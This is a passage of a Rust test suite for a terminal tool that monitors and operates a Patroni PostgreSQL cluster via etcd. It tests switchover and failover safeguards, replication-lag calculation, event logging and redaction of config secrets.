    rest_ok(&mut a, "pg2", replica_behind(0), later(now, 1));
    rest_ok(&mut a, "pg3", replica_behind(0), later(now, 1));
    a.update(key('s'));
    press(&mut a, KeyCode::Enter);
    assert!(
        sends(&a.update(key('y'))).is_empty(),
        "the REST path is blocked"
    );
    a.update(key('d'));
    let d = a.session.dialog.as_ref().expect("dialog");
    assert_eq!(d.kind, OpKind::DcsSwitchover);
    let shown = d.shown.clone().expect("request");
    assert_eq!(
        shown.display(),
        r#"etcd PUT /service/demo/failover {"leader":"pg1","member":"pg2"}"#
    );
    assert!(
        sends(&a.update(key('y'))).is_empty(),
        "y is not enough here"
    );
    press(&mut a, KeyCode::Backspace);
    for c in "demo".chars() {
        a.update(key(c));
    }
    let eff = press(&mut a, KeyCode::Enter);
    assert_eq!(sends(&eff), vec![&shown]);
}

#[test]
fn update_records_events_for_a_switchover_and_a_member_leaving() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    assert!(
        a.model.events.is_empty(),
        "the first snapshot is the baseline"
    );
    a.update(Msg::Dcs(now, DcsEvent::Put(kv("leader", b"pg2"))));
    let mut s2 = status("rest/patroni_leader_after_switchover.json");
    s2.patroni.name = Some("pg2".into());
    rest_ok(&mut a, "pg2", s2, later(now, 1));
    a.update(Msg::Dcs(
        now,
        DcsEvent::Delete {
            key: "/service/demo/members/pg3".into(),
        },
    ));
    let texts: Vec<String> = a.model.events.iter().map(|e| e.kind.text()).collect();
    assert!(
        texts.contains(&"leader changed: pg1 → pg2".to_string()),
        "{texts:?}"
    );
    assert!(
        texts.contains(&"timeline incremented: 1 → 2".to_string()),
        "{texts:?}"
    );
    assert!(
        texts.contains(&"pg3 left (member key gone)".to_string()),
        "{texts:?}"
    );
    assert_eq!(a.model.clock(a.model.events[0].at), "+0s");
}

#[test]
fn a_restart_made_anywhere_is_an_event_once_also_across_an_unreachable_spell() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    let restarted = |a: &App| {
        a.model
            .events
            .iter()
            .filter(|e| matches!(e.kind, events::EventKind::Restarted { .. }))
            .map(|e| e.kind.text())
            .collect::<Vec<_>>()
    };
    let with_start = |t: &str| {
        let mut s = replica_behind(0);
        s.postmaster_start_time = Some(t.into());
        s
    };
    // the start time it has answered with since the beginning, again: no news
    let first = replica_behind(0)
        .postmaster_start_time
        .expect("the fixture's");
    rest_ok(&mut a, "pg2", with_start(&first), later(now, 1));
    rest_ok(&mut a, "pg2", with_start(&first), later(now, 2));
    assert!(restarted(&a).is_empty(), "{:?}", restarted(&a));
    // patronictl restart, seen only as a new start time (the state never left "streaming")
    rest_ok(
        &mut a,
        "pg2",
        with_start("2026-12-07 11:00:00+00:00"),
        later(now, 3),
    );
    assert_eq!(restarted(&a), ["pg2: PostgreSQL restarted"]);
    // down while it restarted: the start time before the spell is the one compared
    rest_err(&mut a, "pg2", "connection refused", later(now, 4));
    rest_ok(
        &mut a,
        "pg2",
        with_start("2026-12-07 12:00:00+00:00"),
        later(now, 5),
    );
    assert_eq!(restarted(&a).len(), 2, "{:?}", restarted(&a));
}

#[test]
fn the_event_log_is_bounded() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    for i in 0..(Model::MAX_EVENTS + 10) {
        let v = if i % 2 == 0 { &b"pg2"[..] } else { &b"pg1"[..] };
        a.update(Msg::Dcs(now, DcsEvent::Put(kv("leader", v))));
    }
    assert_eq!(a.model.events.len(), Model::MAX_EVENTS);
}

#[test]
fn lock_ttl_counts_down_between_answers() {
    let now = Instant::now();
    let mut kvs = healthy_kvs();
    kvs.retain(|k| !k.key.ends_with("/leader"));
    let mut a = app(kvs, now);
    let mut leader = kv("leader", b"pg1");
    leader.lease = 77;
    let eff = a.update(Msg::Dcs(now, DcsEvent::Put(leader)));
    assert!(eff.contains(&Effect::WatchLease(77)), "{eff:?}");
    a.update(Msg::Info(crate::dcs::info::InfoEvent::LeaseTtl {
        lease: 77,
        ttl: 18,
        granted: 20,
        at: now,
    }));
    assert_eq!(a.model.lock_left(), Some((18, 20)));
    // Patroni renews the lock every loop_wait: the same figure a second later is no news
    a.dirty = false;
    a.update(Msg::Info(crate::dcs::info::InfoEvent::LeaseTtl {
        lease: 77,
        ttl: 18,
        granted: 20,
        at: later(now, 1),
    }));
    assert!(!a.dirty, "the same seconds left: nothing to draw");
    a.update(Msg::Tick(later(now, 5)));
    assert!(a.dirty, "no answer for a while: the countdown moves");
    assert_eq!(
        a.model.lock_left(),
        Some((14, 20)),
        "counts down between answers"
    );
    a.update(Msg::Tick(later(now, 60)));
    assert_eq!(a.model.lock_left(), Some((0, 20)), "never below zero");
    // a stale answer for an old lease is ignored
    a.update(Msg::Info(crate::dcs::info::InfoEvent::LeaseTtl {
        lease: 5,
        ttl: 20,
        granted: 20,
        at: later(now, 60),
    }));
    assert_eq!(a.model.lock_left(), Some((0, 20)));
    let eff = a.update(Msg::Dcs(
        now,
        DcsEvent::Delete {
            key: "/service/demo/leader".into(),
        },
    ));
    assert!(eff.contains(&Effect::WatchLease(0)));
    assert_eq!(a.model.lock_left(), None);
}

#[test]
fn log_view_keys_never_reach_operations() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    // without a log source, `l` is not hinted; pressed, the view says how to configure one
    assert!(
        a.hints().iter().all(|(_, w)| *w != "logs"),
        "{:?}",
        a.hints()
    );
    a.update(key('l'));
    assert_eq!((*a.screen.view()), View::Logs(Some("pg1".into())));
    assert!(a.screen.flash.is_none(), "{:?}", a.screen.flash);
    let words: Vec<&str> = a.hints().iter().map(|(_, w)| *w).collect();
    assert_eq!(words, ["help", "back"], "nothing to follow, wrap or filter");
    a.update(key('l'));
    assert_eq!((*a.screen.view()), View::Main, "l again goes back");
    a.model.logs_configured = true;
    assert!(a.hints().iter().any(|(_, w)| *w == "logs"));
    a.update(key('l'));
    assert_eq!((*a.screen.view()), View::Logs(Some("pg1".into())));
    a.update(Msg::Log(crate::logs::parse_line(
        "pg1",
        "2026-11-26 00:24:45,401 INFO: no action",
    )));
    assert!(a.dirty);
    // f is follow here, not failover; typing a filter with s/r/p opens nothing
    assert!(a.screen.log_view.follow);
    a.update(key('f'));
    assert!(!a.screen.log_view.follow);
    a.update(key('/'));
    for c in "sprx".chars() {
        assert!(sends(&a.update(key(c))).is_empty());
    }
    assert_eq!(a.screen.log_view.filter, "sprx");
    press(&mut a, KeyCode::Enter);
    for c in ['s', 'r', 'p', 'x', 'L', 'I', 'R'] {
        a.update(key(c));
        assert!(
            a.session.dialog.is_none(),
            "{c} does nothing in the log view"
        );
    }
    press(&mut a, KeyCode::Esc); // clears the filter
    assert!(a.screen.log_view.filter.is_empty());
    press(&mut a, KeyCode::Esc); // back
    assert_eq!((*a.screen.view()), View::Main);
    // lines of a member not on screen do not redraw
    a.dirty = false;
    a.update(Msg::Log(crate::logs::parse_line("pg2", "x")));
    assert!(!a.dirty);
}

#[test]
fn replay_delay_is_how_far_behind_from_positions_never_the_idle_time() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    // wall clock: 2026-11-26 00:25:00 UTC at `now`; the last replayed transaction is ten
    // minutes old (an idle cluster): that is no lag at all
    a.model.wall0 = Some(std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_795_652_700));
    a.model.started_at_for_tests(now);
    let top = 67108864 + 5 * 1024 * 1024;
    let mut leader = status("rest/patroni_leader.json");
    for s in 1..=4u64 {
        // the leader writes 1000 bytes a second
        leader.xlog.location = Some(top + s * 1000);
        rest_ok(&mut a, "pg1", leader.clone(), later(now, s));
        let mut caught_up = replica_behind(0);
        caught_up.xlog.received_location = Some(top + s * 1000);
        caught_up.xlog.replayed_location = Some(top + s * 1000);
        caught_up.xlog.replayed_timestamp = Some("2026-11-26 00:15:00.000+00".into());
        rest_ok(&mut a, "pg2", caught_up, later(now, s));
    }
    // pg3 at 4 s has replayed up to top+1500: the leader was past it at 2 s already
    let mut behind = replica_behind(0);
    behind.xlog.received_location = Some(top + 4000);
    behind.xlog.replayed_location = Some(top + 1500);
    behind.xlog.replayed_timestamp = Some("2026-11-26 00:15:00.000+00".into());
    rest_ok(&mut a, "pg3", behind, later(now, 4));
    leader.xlog.location = Some(top + 4000);
    rest_ok(
        &mut a,
        "pg1",
        leader,
        later(now, 4) + std::time::Duration::from_millis(300),
    );
    let rows = a.rows();
    let pg3 = rows.iter().find(|r| r.name == "pg3").unwrap();
    assert_eq!(pg3.replay_lag, Some(2500), "{pg3:?}");
    assert_eq!(
        a.model.replay_delay(pg3),
        Some(std::time::Duration::from_secs(2)),
        "behind by at least the time since the leader was past the replayed position"
    );
    let pg2 = rows.iter().find(|r| r.name == "pg2").unwrap();
    assert_eq!(
        a.model.replay_delay(pg2),
        Some(std::time::Duration::ZERO),
        "caught up: 0 s, however old the last replayed transaction"
    );
    assert_eq!(
        a.model.replay_delay(&rows[0]),
        None,
        "the leader has no replay delay"
    );
}

#[test]
fn the_event_baseline_kept_per_member_equals_the_full_summary() {
    // update() compares only what a message can change; after every message its baseline
    // must be exactly what a whole-cluster comparison would have used (the full summary,
    // with what is unknown now kept as last known)
    let now = Instant::now();
    let mut a = App::new(
        AppConfig::new("demo", "/service/", vec!["http://e:1".into()]),
        now,
    );
    let step = |a: &mut App, msg: Msg, name: &str| {
        let before = a.model.news_baseline().clone();
        a.update(msg);
        assert_eq!(
            *a.model.news_baseline(),
            a.model.summary().carry(&before),
            "after {name}"
        );
    };
    let rest = |member: &str, s: PatroniStatus, at: Instant| Msg::Rest {
        member: member.into(),
        at,
        result: Ok(Box::new(s)),
    };
    step(&mut a, Msg::Dcs(now, snapshot(healthy_kvs())), "snapshot");
    step(
        &mut a,
        rest("pg1", status("rest/patroni_leader.json"), now),
        "rest pg1",
    );
    step(&mut a, rest("pg2", replica_behind(4096), now), "rest pg2");
    step(
        &mut a,
        Msg::Dcs(now, DcsEvent::Put(kv("members/pg3", &pg3_replica()))),
        "member put",
    );
    step(
        &mut a,
        Msg::Dcs(now, DcsEvent::Put(kv("leader", b"pg2"))),
        "leader put",
    );
    // cluster-wide keys that decide roles: only the role holders are compared, which must
    // come to the same baseline as the whole cluster
    step(
        &mut a,
        Msg::Dcs(
            now,
            DcsEvent::Put(kv("config", br#"{"ttl":30,"synchronous_mode":true}"#)),
        ),
        "config put (synchronous mode)",
    );
    step(
        &mut a,
        Msg::Dcs(
            now,
            DcsEvent::Put(kv("sync", br#"{"leader":"pg2","sync_standby":"pg1"}"#)),
        ),
        "sync put",
    );
    step(
        &mut a,
        Msg::Dcs(
            now,
            DcsEvent::Put(kv("sync", br#"{"leader":"pg2","sync_standby":"pg3"}"#)),
        ),
        "sync moves",
    );
    step(
        &mut a,
        Msg::Dcs(now, DcsEvent::Put(kv("config", br#"{"ttl":30}"#))),
        "config put (asynchronous)",
    );
    step(
        &mut a,
        Msg::Dcs(
            now,
            DcsEvent::Delete {
                key: "/service/demo/members/pg3".into(),
            },
        ),
        "member delete",
    );
    step(
        &mut a,
        Msg::Rest {
            member: "pg2".into(),
            at: later(now, 1),
            result: Err("connection refused".into()),
        },
        "rest error",
    );
    step(&mut a, Msg::Tick(later(now, 10)), "tick");
    step(
        &mut a,
        Msg::Dcs(
            later(now, 10),
            DcsEvent::Put(RawKv {
                key: "/service/other/members/x1".into(),
                value: pg3_replica(),
                lease: 0,
            }),
        ),
        "another cluster's key",
    );
    assert!(!a.model.events.is_empty());
}

#[test]
fn keys_of_other_clusters_neither_redraw_nor_make_news() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    a.dirty = false;
    let n = a.model.events.len();
    a.update(Msg::Dcs(
        now,
        DcsEvent::Put(RawKv {
            key: "/service/other/leader".into(),
            value: b"x1".to_vec(),
            lease: 0,
        }),
    ));
    assert!(!a.dirty);
    assert_eq!(a.model.events.len(), n);
    // the same key in the cluster on screen does both
    a.update(Msg::Dcs(now, DcsEvent::Put(kv("leader", b"pg2"))));
    assert!(a.dirty);
    assert!(a.model.events.len() > n);
}

#[test]
fn enter_never_sends_the_key_that_advances_is_not_the_key_that_sends() {
    let now = Instant::now();
    // `s` Enter Enter: the second Enter does not send; `y` does
    let mut a = healthy_live(now);
    let mut eff = a.update(key('s'));
    eff.extend(press(&mut a, KeyCode::Enter));
    eff.extend(press(&mut a, KeyCode::Enter));
    assert!(sends(&eff).is_empty(), "Enter only reviews");
    let d = a.session.dialog.as_ref().expect("still open");
    assert!(
        d.notice.as_deref().is_some_and(|n| n.contains("press y")),
        "{:?}",
        d.notice
    );
    assert_eq!(sends(&a.update(key('y'))).len(), 1, "y sends");

    // restart and reload too (restart has options, reload opens on the review)
    for k in ['r', 'L'] {
        let mut a = healthy_live(now);
        a.update(key('j'));
        let mut eff = a.update(key(k));
        for _ in 0..3 {
            eff.extend(press(&mut a, KeyCode::Enter));
        }
        assert!(sends(&eff).is_empty(), "{k}: Enter never sends");
        assert_eq!(sends(&a.update(key('y'))).len(), 1, "{k}: y sends");
    }

    // a typed confirmation: Enter sends only after the name was typed at this step
    let mut a = healthy_live(now);
    a.update(key('f'));
    press(&mut a, KeyCode::Enter);
    let d = a.session.dialog.as_mut().expect("open");
    assert_eq!(d.step, Step::Confirm);
    // even were the name already there, the Enter right behind the advancing one is refused
    d.typed = "demo".into();
    assert!(sends(&press(&mut a, KeyCode::Enter)).is_empty());
    press(&mut a, KeyCode::Backspace);
    a.update(key('o'));
    assert_eq!(sends(&press(&mut a, KeyCode::Enter)).len(), 1);
}

#[test]
fn a_write_overlapping_one_in_flight_is_refused_with_the_reason() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    a.update(key('s'));
    press(&mut a, KeyCode::Enter);
    let Effect::Send { op, .. } = a.update(key('y')).remove(0) else {
        panic!("switchover sent")
    };
    // the switchover is in flight: a pause (cluster-wide) is refused, and says why
    a.update(key('p'));
    assert!(sends(&a.update(key('y'))).is_empty());
    let n = a
        .session
        .dialog
        .as_ref()
        .and_then(|d| d.notice.clone())
        .unwrap_or_default();
    assert!(n.contains("switchover pg1 → pg2 is still in flight"), "{n}");
    assert_eq!(a.session.ops.len(), 1);
    press(&mut a, KeyCode::Esc);
    // a member's own write on another member is refused too while a switchover runs
    a.update(key('j'));
    a.update(key('L'));
    assert!(sends(&a.update(key('y'))).is_empty());
    press(&mut a, KeyCode::Esc);
    // once it settles (here: refused), the next write goes
    a.update(Msg::OpReply {
        op,
        at: now,
        reply: ops::Reply::Status {
            code: 412,
            body: "leader name does not match".into(),
        },
    });
    assert!(a.session.ops[0].settle.finished());
    a.update(key('L'));
    let eff = a.update(key('y'));
    assert_eq!(sends(&eff).len(), 1, "reload of {:?}", a.screen.selected);
    let reloaded = sends(&eff)[0].member.clone();
    // a reload in flight blocks another write to the same member, not to another one
    let mut b = healthy_live(now);
    b.update(key('j'));
    b.update(key('L'));
    assert_eq!(sends(&b.update(key('y'))).len(), 1);
    b.update(key('L'));
    assert!(sends(&b.update(key('y'))).is_empty(), "same member");
    press(&mut b, KeyCode::Esc);
    b.update(key('j'));
    b.update(key('L'));
    let eff = b.update(key('y'));
    assert_eq!(sends(&eff).len(), 1, "another member");
    assert_ne!(sends(&eff)[0].member, reloaded);
}

#[test]
fn every_send_carries_its_intent_line() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    a.update(key('s'));
    press(&mut a, KeyCode::Enter);
    let Effect::Send {
        op,
        request,
        intent,
    } = a.update(key('y')).remove(0)
    else {
        panic!("sent")
    };
    assert_eq!(intent["phase"], "intent");
    assert_eq!(intent["op"], op);
    assert_eq!(intent["action"], "switchover");
    assert_eq!(intent["member"], request.member.as_str());
    assert_eq!(intent["request"]["url"], request.url());
    assert_eq!(
        intent["request"]["body"],
        request.body.clone().unwrap_or_default()
    );
    assert!(!intent.to_string().contains("sandbox-rest-secret"));
}

fn role_events(a: &App, member: &str) -> Vec<String> {
    a.model
        .events
        .iter()
        .filter(
            |e| matches!(&e.kind, events::EventKind::RoleChanged { member: m, .. } if m == member),
        )
        .map(|e| e.kind.text())
        .collect()
}

#[test]
fn a_crashed_leader_whose_keys_expire_only_leaves() {
    // the leader is SIGKILLed: its leader key expires, then its member key (still saying
    // "primary"); it never became a replica, so no role event may say so
    let now = Instant::now();
    let mut a = app(healthy_kvs(), now);
    rest_err(&mut a, "pg1", "connection refused", later(now, 1));
    a.update(Msg::Dcs(
        later(now, 10),
        DcsEvent::Delete {
            key: "/service/demo/leader".into(),
        },
    ));
    a.update(Msg::Tick(later(now, 11)));
    a.update(Msg::Dcs(
        later(now, 12),
        DcsEvent::Delete {
            key: "/service/demo/members/pg1".into(),
        },
    ));
    a.update(Msg::Tick(later(now, 13)));
    assert_eq!(role_events(&a, "pg1"), Vec::<String>::new());
    let texts: Vec<String> = a.model.events.iter().map(|e| e.kind.text()).collect();
    assert!(
        texts.contains(&"pg1 left (member key gone)".to_string()),
        "{texts:?}"
    );
    assert!(
        texts.contains(&"leader changed: pg1 → none".to_string()),
        "{texts:?}"
    );
}

#[test]
fn a_crashed_leader_replaced_before_its_key_expires_only_leaves() {
    // the same with the new leader taking the lock while pg1's member key still exists
    let now = Instant::now();
    let mut a = app(healthy_kvs(), now);
    a.update(Msg::Dcs(
        later(now, 10),
        DcsEvent::Delete {
            key: "/service/demo/leader".into(),
        },
    ));
    a.update(Msg::Dcs(
        later(now, 11),
        DcsEvent::Put(kv("leader", b"pg2")),
    ));
    a.update(Msg::Tick(later(now, 11)));
    a.update(Msg::Dcs(
        later(now, 12),
        DcsEvent::Delete {
            key: "/service/demo/members/pg1".into(),
        },
    ));
    assert_eq!(role_events(&a, "pg1"), Vec::<String>::new());
    assert_eq!(
        role_events(&a, "pg2"),
        vec!["pg2: role Replica → Leader".to_string()]
    );
    assert!(
        a.model
            .events
            .iter()
            .any(|e| e.kind == events::EventKind::MemberLeft("pg1".into()))
    );
}

#[test]
fn a_demotion_seen_after_an_unknown_role_is_one_event() {
    // pg1 loses the lock (unknown while it still says primary), then reports replica:
    // the change from the last known role is news, once
    let now = Instant::now();
    let mut a = app(healthy_kvs(), now);
    a.update(Msg::Dcs(later(now, 1), DcsEvent::Put(kv("leader", b"pg2"))));
    assert_eq!(role_events(&a, "pg1"), Vec::<String>::new());
    let demoted = String::from_utf8_lossy(&fixture("etcd/member_replica.json"))
        .replace("24022", "24021")
        .replace("24012", "24011")
        .into_bytes();
    a.update(Msg::Dcs(
        later(now, 2),
        DcsEvent::Put(kv("members/pg1", &demoted)),
    ));
    a.update(Msg::Tick(later(now, 3)));
    assert_eq!(
        role_events(&a, "pg1"),
        vec!["pg1: role Leader → Replica".to_string()]
    );
}

#[test]
fn the_candidate_selection_follows_the_member_when_the_order_changes() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    a.update(key('s'));
    let names = |a: &App| -> Vec<String> {
        a.model
            .plan(a.session.dialog.as_ref().unwrap())
            .candidates
            .iter()
            .map(|c| c.name.clone())
            .collect()
    };
    assert_eq!(names(&a), ["pg2", "pg3"], "eligible first: pg3 lags");
    // the member the plan would hand over to
    let target = |a: &App| match a.model.plan(a.session.dialog.as_ref().unwrap()).expect {
        ops::Expect::NewLeader { to, .. } => to,
        e => panic!("{e:?}"),
    };
    a.update(key('j'));
    assert_eq!(target(&a).as_deref(), Some("pg3"));
    // pg3 catches up and pg2 falls behind: the list is sorted the other way round
    let t = later(now, 1);
    rest_ok(&mut a, "pg2", replica_behind(2048 * 1024), t);
    rest_ok(&mut a, "pg3", replica_behind(0), t);
    let mut leader = status("rest/patroni_leader.json");
    leader.xlog.location = Some(67108864 + 5 * 1024 * 1024);
    rest_ok(&mut a, "pg1", leader, t);
    assert_eq!(names(&a), ["pg3", "pg2"]);
    assert_eq!(target(&a).as_deref(), Some("pg3"));
    press(&mut a, KeyCode::Enter);
    let shown = a
        .session
        .dialog
        .as_ref()
        .and_then(|d| d.shown.clone())
        .unwrap();
    assert_eq!(
        shown.display(),
        r#"POST http://127.0.0.1:24011/switchover {"leader":"pg1","candidate":"pg3"}"#,
        "the member picked, not the row"
    );
    // j/k move through the current order, by name
    press(&mut a, KeyCode::Esc);
    a.update(key('j'));
    assert_eq!(target(&a).as_deref(), Some("pg2"));
    a.update(key('k'));
    a.update(key('k'));
    assert_eq!(target(&a).as_deref(), Some("pg3"));
}

#[test]
fn failover_blocks_what_makes_a_candidate_unfit_and_warns_of_data_loss() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    // pg3 is 1.5 MiB behind, above maximum_lag_on_failover (1 MiB)
    a.update(key('f'));
    a.update(key('j'));
    let p = a.model.plan(a.session.dialog.as_ref().unwrap());
    let b = checks::blocked(&p.checks).map(|c| c.text.clone());
    assert!(
        b.as_deref()
            .is_some_and(|t| t.starts_with("pg3 cannot take over: lag 1.5 MiB above")),
        "{b:?}"
    );
    // and nothing is sent, even with the name typed
    press(&mut a, KeyCode::Enter);
    for c in "demo".chars() {
        a.update(key(c));
    }
    assert!(sends(&press(&mut a, KeyCode::Enter)).is_empty());
    assert!(a.session.ops.is_empty());

    // asynchronous in synchronous mode: a warning, the failover may proceed
    let mut kvs = healthy_kvs();
    kvs.push(kv("config", br#"{"synchronous_mode": true}"#));
    kvs.push(kv("sync", br#"{"leader":"pg1","sync_standby":"pg3"}"#));
    let mut a = app(kvs, now);
    rest_ok(&mut a, "pg2", replica_behind(0), now);
    rest_ok(&mut a, "pg3", replica_behind(0), now);
    let mut leader = status("rest/patroni_leader.json");
    leader.xlog.location = Some(67108864 + 5 * 1024 * 1024);
    rest_ok(&mut a, "pg1", leader, now);
    let c = checks::candidates(a.cluster().unwrap(), now, a.model.rest_interval);
    let pg2 = c.iter().find(|c| c.name == "pg2").unwrap();
    let checks = checks::failover(a.cluster().unwrap(), Some(pg2));
    assert_eq!(checks::blocked(&checks), None, "{checks:?}");
    assert!(
        checks.iter().any(|c| c.level == checks::Level::Warn
            && c.text.contains("asynchronous in synchronous mode"))
    );
}

#[test]
fn a_member_never_asked_has_no_answering_rest_api() {
    let now = Instant::now();
    let a = app(healthy_kvs(), now);
    let rows = a.rows();
    let pg2 = rows.iter().find(|r| r.name == "pg2");
    let v = checks::member_op(pg2, "restart", false);
    assert!(
        !v.iter()
            .any(|c| c.level == checks::Level::Pass && c.text.contains("answers")),
        "{v:?}"
    );
    assert_eq!(
        checks::blocked(&v).map(|c| c.text.as_str()),
        Some("pg2's REST API has not answered yet")
    );
    let c = checks::candidates(a.cluster().unwrap(), now, a.model.rest_interval);
    assert!(c.iter().all(|c| !c.eligible()), "{c:?}");
}

/// The leader at `lsn`, answering at `at`.
fn leader_at(a: &mut App, lsn: u64, at: Instant) {
    let mut s = status("rest/patroni_leader.json");
    s.xlog.location = Some(lsn);
    rest_ok(a, "pg1", s, at);
}

/// pg2 having received and replayed up to `lsn`, answering at `at`.
fn pg2_at(a: &mut App, lsn: u64, at: Instant) {
    let mut s = status("rest/patroni_replica.json");
    s.xlog.received_location = Some(lsn);
    s.xlog.replayed_location = Some(lsn);
    rest_ok(a, "pg2", s, at);
}

fn row(a: &App, name: &str) -> MemberRow {
    a.rows().into_iter().find(|r| r.name == name).unwrap()
}

fn ms(now: Instant, ms: u64) -> Instant {
    now + std::time::Duration::from_millis(ms)
}

#[test]
fn lag_pairs_the_replica_with_the_leader_sampled_after_it() {
    const B: u64 = 0x5000_0000;
    let now = Instant::now();
    let mut a = app(healthy_kvs(), now);
    // the leader answers first; the replica, 100 ms later, has replayed past that figure
    // (the leader has moved on meanwhile): subtracting would say 0 B
    leader_at(&mut a, B, now);
    pg2_at(&mut a, B + 4096, ms(now, 100));
    let r = row(&a, "pg2");
    assert_ne!(r.replay_lag, Some(0), "{r:?}");
    assert_eq!(r.replay_lag, None, "unknown: the leader's figure is older");
    let c = checks::candidates(a.cluster().unwrap(), a.model.now, a.model.rest_interval);
    let pg2 = c.iter().find(|c| c.name == "pg2").unwrap();
    assert!(!pg2.eligible(), "unknown lag is not eligible: {pg2:?}");
    // (no pair was possible yet: right after start that is "not yet known")
    assert!(
        pg2.reasons.iter().any(|r| r == members::LAG_WAITING),
        "{pg2:?}"
    );

    // the leader's next answer pairs with it: the lag at the replica's sample, or more
    leader_at(&mut a, B + 16384, ms(now, 1000));
    let r = row(&a, "pg2");
    assert_eq!(r.lag_source, members::LagSource::Live);
    assert_eq!(r.replay_lag, Some(12288));
    assert_eq!(r.lag_age, None);
    // a newer replica answer with no leader answer after it yet: the last pair stands
    pg2_at(&mut a, B + 20000, ms(now, 1100));
    assert_eq!(row(&a, "pg2").replay_lag, Some(12288));
    // the leader stops answering: within two intervals the pair is as fresh as polling
    // gives, past them the age is shown
    a.update(Msg::Tick(ms(now, 2900)));
    assert_eq!(row(&a, "pg2").lag_age, None);
    a.update(Msg::Tick(ms(now, 3050)));
    let r = row(&a, "pg2");
    assert_eq!(r.replay_lag, Some(12288));
    assert_eq!(r.lag_age, Some(std::time::Duration::from_millis(2050)));
    // a leader answer too long after the replica's (1.96 s) does not pair with it
    leader_at(&mut a, B + 30000, ms(now, 3060));
    let r = row(&a, "pg2");
    assert_eq!(
        r.replay_lag,
        Some(12288),
        "still the pair of 0.1 s and 1.0 s"
    );
    // past rest_max_age (3 s) the pair is not live any more: etcd's figure, marked
    a.update(Msg::Tick(ms(now, 4100)));
    assert!(matches!(
        row(&a, "pg2").lag_source,
        members::LagSource::Dcs(_)
    ));

    // the leader's figure is before the replica's but above it: at least that far behind
    let mut a = app(healthy_kvs(), now);
    leader_at(&mut a, B + 8192, now);
    pg2_at(&mut a, B + 4096, ms(now, 100));
    let r = row(&a, "pg2");
    assert_eq!(
        (r.lag_source, r.replay_lag),
        (members::LagSource::AtLeast, Some(4096))
    );
    let c = checks::candidates(a.cluster().unwrap(), a.model.now, a.model.rest_interval);
    let pg2 = c.iter().find(|c| c.name == "pg2").unwrap();
    assert!(
        pg2.reasons
            .iter()
            .any(|r| r == "lag unknown (at least 4.0 KiB)"),
        "{pg2:?}"
    );
}

#[test]
fn a_replica_whose_replay_is_paused_never_reads_zero_and_becomes_ineligible() {
    // replay frozen at R while the leader writes 100 KiB per interval; the two are polled
    // in either order within each interval
    const R: u64 = 0x5000_0000;
    let now = Instant::now();
    let mut a = app(healthy_kvs(), now);
    let mut seen_ineligible = false;
    leader_at(&mut a, R, now);
    pg2_at(&mut a, R, now);
    for i in 1..40u64 {
        let t = now + std::time::Duration::from_secs(i);
        let lsn = R + i * 100 * 1024;
        if i % 3 == 0 {
            leader_at(&mut a, lsn, t);
            pg2_at(&mut a, R, ms(t, 5));
        } else {
            pg2_at(&mut a, R, t);
            leader_at(&mut a, lsn, ms(t, 5));
        }
        let r = row(&a, "pg2");
        assert_ne!(r.replay_lag, Some(0), "observation {i}: {r:?}");
        let c = checks::candidates(a.cluster().unwrap(), a.model.now, a.model.rest_interval);
        let pg2 = c.iter().find(|c| c.name == "pg2").unwrap();
        if r.replay_lag.is_some_and(|l| l > 1024 * 1024) {
            assert!(!pg2.eligible(), "{i}: {pg2:?}");
            seen_ineligible = true;
        }
    }
    assert!(seen_ineligible);
}

#[test]
fn a_config_without_maximum_lag_on_failover_has_patronis_default_limit() {
    // Patroni applies 1 MiB when the key is left out: 2 MiB behind is not eligible
    let now = Instant::now();
    let mut kvs: Vec<_> = healthy_kvs()
        .into_iter()
        .filter(|kv| !kv.key.ends_with("/config"))
        .collect();
    kvs.push(kv("config", br#"{"ttl": 20, "loop_wait": 1}"#));
    let mut a = app(kvs, now);
    let mut leader = status("rest/patroni_leader.json");
    leader.xlog.location = Some(67108864 + 5 * 1024 * 1024);
    rest_ok(&mut a, "pg1", leader.clone(), now);
    rest_ok(&mut a, "pg2", replica_behind(2 * 1024 * 1024), now);
    rest_ok(&mut a, "pg3", replica_behind(0), now);
    // the leader sampled after the replicas: the pair is known
    rest_ok(&mut a, "pg1", leader, now);
    let c = checks::candidates(a.cluster().unwrap(), now, a.model.rest_interval);
    let pg2 = c.iter().find(|c| c.name == "pg2").unwrap();
    assert!(
        pg2.reasons
            .iter()
            .any(|r| r.contains("maximum_lag_on_failover")),
        "{pg2:?}"
    );
    let pg3 = c.iter().find(|c| c.name == "pg3").unwrap();
    assert!(pg3.eligible(), "{pg3:?}");
}

/// Secrets in the dynamic config (a key named like a password, libpq `password=` in a
/// conninfo and a command, URI userinfo) reach neither the model's config, nor the event a
/// change makes, nor the `E` export; a changed password is still news, without its value.
#[test]
fn config_secrets_reach_no_event_and_no_export_but_their_change_is_news() {
    let now = Instant::now();
    let cfg = |pw: &str| {
        format!(
            r#"{{"ttl": 20, "x": {{"authentication": {{"replication": {{"password": "{pw}-a"}}}},
               "primary_conninfo": "host=h user=rep password='{pw}-b' port=5432",
               "restore_command": "PGPASSWORD={pw}-c pg_receivewal -d postgresql://rep:{pw}-d@h/db"}}}}"#
        )
    };
    let mut kvs: Vec<_> = healthy_kvs()
        .into_iter()
        .filter(|kv| !kv.key.ends_with("/config"))
        .collect();
    kvs.push(kv("config", cfg("old-secret").as_bytes()));
    let mut a = app(kvs, now);
    let raw = a
        .cluster()
        .and_then(|c| c.config.as_ref())
        .unwrap()
        .raw
        .to_string();
    assert!(!raw.contains("old-secret"), "{raw}");
    assert!(
        raw.contains("host=h user=rep password='***' port=5432"),
        "{raw}"
    );
    a.update(Msg::Dcs(
        later(now, 1),
        DcsEvent::Put(kv("config", cfg("new-secret").as_bytes())),
    ));
    let texts: Vec<String> = a.model.events.iter().map(|e| e.kind.text()).collect();
    let all = texts.join("\n");
    assert!(!all.contains("secret-"), "{all}");
    for k in [
        "x.authentication.replication.password: changed (value hidden)",
        "x.primary_conninfo: changed (value hidden)",
        "x.restore_command: changed (value hidden)",
    ] {
        assert!(all.contains(k), "{k} in {all}");
    }
    let eff = a.update(key('E'));
    let [Effect::WriteFile { content, .. }] = eff.as_slice() else {
        panic!("{eff:?}")
